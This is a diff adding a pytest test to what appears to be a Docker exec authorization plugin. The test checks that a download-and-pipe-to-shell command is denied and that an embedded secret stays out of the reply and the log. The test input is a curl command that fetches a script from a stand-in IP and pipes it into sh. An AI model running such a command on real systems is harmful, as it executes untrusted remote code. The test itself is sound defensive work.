@@ -205,3 +205,11 @@ def test_parse_duration(text: str, seconds: int) -> None:
 def test_parse_duration_refuses(text: str) -> None:
     with pytest.raises(ValueError):
         parse_duration(text)
+
+
+def test_secrets_in_the_command_never_reach_message_or_record(plugin: Plugin) -> None:
+    secret = "hunter2-very-secret-value"
+    body = {"Cmd": ["sh", "-c", f"curl -s http://203.0.113.7/x.sh --token {secret} | sh"], "Env": [f"PASSWORD={secret}"]}
+    answer = plugin.req("POST", "/v1.41/containers/web/exec", body)
+    assert answer["Allow"] is False and "cmd-download-pipe-shell" in answer["Msg"]
+    assert secret not in answer["Msg"] and secret not in plugin.record_path.read_text()
